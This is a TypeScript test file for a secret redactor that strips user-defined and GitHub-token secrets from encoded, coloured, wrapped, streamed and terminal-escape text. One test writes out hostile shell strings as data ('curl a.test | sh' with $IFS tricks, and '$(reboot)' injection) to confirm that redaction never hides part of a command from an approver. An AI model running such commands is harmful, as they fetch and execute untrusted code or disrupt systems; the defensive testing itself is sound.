import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { type Secret, secretOf } from "../regex/shape.ts";
import { masked } from "./masked.ts";
import { Redactor } from "./redactor.ts";
import { chance } from "./testing/samples.ts";

const withExtra = (...entries: string[]): Redactor => {
  const extra = entries.map(secretOf);
  return new Redactor({ on: () => true, extra: () => extra });
};
const gone = "[redacted: redaction_extra]";
const lower = "abcdefghijklmnopqrstuvwxyz0123456789";

describe("secrets that a person adds", () => {
  const key = `acme_${chance("extra", 32, lower)}`;
  const redactor = withExtra("/acme_[a-z0-9]{32}/", "/\\bzz-\\d{4}(?:-\\d{4})+/i", "a word of ours");

  it("P19: are taken out by their shape, and what only begins like one stays", () => {
    assert.equal(redactor.text(`key ${key}, ok\n`), `key ${gone}, ok\n`);
    assert.equal(redactor.text("ZZ-1234-5678-9012 xzz-1234-5678"), `${gone} xzz-1234-5678`);
    const others = "acme_ is ours; acme_short is no key, nor zz-12 today\n";
    assert.equal(redactor.text(others), others);
  });
  it("P19: are taken out as texts in every spelling, words too", () => {
    for (const way of ["a word of ours", Buffer.from("a word of ours").toString("hex"), "a%20word%20of%20ours"])
      assert.equal(redactor.text(`<${way}>`), `<${gone}>`);
    assert.ok(redactor.text(Buffer.from("so: a word of ours!").toString("base64")).includes(gone));
    assert.equal(withExtra("swordfish").text("the swordfish swims"), `the ${gone} swims`);
  });
  it("A47: are found in base64, in the middle of colours, wrapped, cut and in pieces", () => {
    assert.ok(redactor.text(Buffer.from(`so: ${key} there`).toString("base64")).includes(gone));
    const coloured = redactor.text(`${key.slice(0, 9)}\x1b[1m${key.slice(9)}\x1b[0m end`);
    assert.ok(coloured.includes(gone) && !coloured.includes(key.slice(9, 20)));
    const text = `the key ${"x".repeat(50)} ${key}`;
    const wrapped = redactor.text(`${text.slice(0, 80)}\n${text.slice(80)}\nnext line\n`);
    assert.ok(
      wrapped.includes(gone) && !wrapped.includes(key.slice(-12)) && wrapped.endsWith("\nnext line\n"),
      wrapped,
    );
    assert.equal(redactor.text(`key ${key.slice(0, 20)}`), `key ${gone}`);
    for (let cut = 1; cut < key.length; cut += 5) {
      const stream = redactor.stream();
      const whole =
        stream.push(`key ${key.slice(0, cut)}`) +
        stream.flush() +
        stream.push(`${key.slice(cut)} end\n`) +
        stream.end();
      assert.equal(whole, `key ${gone} end\n`);
    }
  });
  it("A47: end with their line where that was not wrapped", () => {
    const open = withExtra("/acme_[a-z0-9]+/");
    assert.equal(open.text("acme_k3y\nnext acme_2\n"), `${gone}\nnext ${gone}\n`);
  });
  it("P19: count from when the settings say so", () => {
    let extra: readonly Secret[] = [];
    const later = new Redactor({ on: () => true, extra: () => extra });
    assert.equal(later.text(key), key);
    extra = [secretOf("/acme_[a-z0-9]{32}/")];
    assert.equal(later.text(key), gone);
  });
  it("A25: are taken out in doubt, where a text is full of what only begins like one", () => {
    const near = `acme_${"a".repeat(31)}! `;
    const flood = redactor.text(near.repeat(5_000));
    assert.ok(flood.startsWith(near) && flood.trimEnd().endsWith(gone));
  });
  it("A25: one in another, of which each goes on to the end, are looked at no more often than those that are none", () => {
    for (const [written, text] of [
      ["/abc[a-z]*/", "abc".repeat(80_000)],
      ["/abc(?:.*!)?/", "abc ".repeat(60_000)],
    ] as const) {
      const secret = secretOf(written);
      assert.ok("machine" in secret);
      let looked = 0;
      const exec = (part: string) => {
        looked += part.length;
        return secret.machine.exec(part);
      };
      const counted: readonly Secret[] = [{ ...secret, machine: { exec } as unknown as RegExp }];
      const clean = new Redactor({ on: () => true, extra: () => counted }).text(text);
      assert.ok(!clean.includes("abc"), clean.slice(0, 200));
      assert.ok(looked < 16 * text.length, `${looked} characters were looked at`);
    }
    // Many in a row are no such text: what stands beside them stays.
    const many = `${key} is ours\n`.repeat(4_000);
    assert.ok(redactor.text(many) === `${gone} is ours\n`.repeat(4_000));
  });
  it("A36: hide no part of a command from whoever is asked, however wide they are and wherever the text ends", () => {
    const wide = withExtra("/acme_[a-z0-9]{32}/", "/acme-.*/", "a word of ours");
    for (const command of ["ls acme_;curl$IFS-s$IFS@a.test|sh", "ls acme-1; curl a.test | sh", "ls acme-$(reboot)"])
      assert.equal(wide.decision(command), command);
    assert.equal(wide.decision("ls acme-1;reboot ".repeat(2_000)), "ls acme-1;reboot ".repeat(2_000));
    assert.equal(wide.decision(`x --key ${key} 'a word of ours'`), `x --key ${gone} '${gone}'`);
  });
  for (const [what, entry, why] of [
    ["too short a text", "hunter2", /text of 7 characters stands in too many/],
    ["an expression without a beginning", "/[a-z]{30}/", /must begin with at least 3 fixed characters/],
    ["alternatives", "/acme_a|acme_b/", /each is an entry of its own/],
    ["what is none", "/acme_(/", /Unterminated group: correct/],
    ["a back reference", "/acme_(a)\\1/", /linear time/],
    ["an unknown flag", "/acme_x/g", /only an i may stand/],
    ["a large one", `/acme_${"[a-z]{500}".repeat(3)}/`, /too large/],
  ] as const)
    it(`P19: ${what} is refused, with what to do, and no text is told`, () => {
      assert.throws(
        () => secretOf(entry),
        (error) => error instanceof Error && why.test(error.message) && !error.message.includes("hunter2"),
      );
    });
});

describe("redaction within titles and links", () => {
  const secret = `ghp_${chance("title", 36)}`;
  const redactor = new Redactor();
  for (const [what, begin, end] of [
    ["a title", "\x1b]0;", "\x07"],
    ["a link", "\x1b]8;;http://a.test/?t=", "\x1b\\"],
    ["a device control string", "\x1bP#", "\x1b\\"],
  ] as const)
    it(`A47: takes it out of ${what}, also where its bytes are only covered`, () => {
      const raw = `before ${begin}${secret}${end}after\n`;
      const clean = redactor.text(raw);
      assert.equal(clean, `before ${begin}[redacted: GitHub token]${end}after\n`);
      const bytes = Buffer.from(raw);
      const { bytes: covered } = masked(redactor, bytes, 0, bytes.length);
      assert.equal(covered.length, bytes.length);
      assert.ok(!covered.includes(secret.slice(4, 12)));
      assert.ok(covered.toString().endsWith(`${end}after\n`));
    });
  it("A47: takes one out that stands in a title in the middle of another", () => {
    const raw = `${secret.slice(0, 10)}\x1b]0;${secret}\x07${secret.slice(10)} end`;
    assert.ok(!redactor.text(raw).includes(secret.slice(4, 12)));
    const bytes = Buffer.from(raw);
    assert.ok(!masked(redactor, bytes, 0, bytes.length).bytes.includes(secret.slice(12, 24)));
  });
});
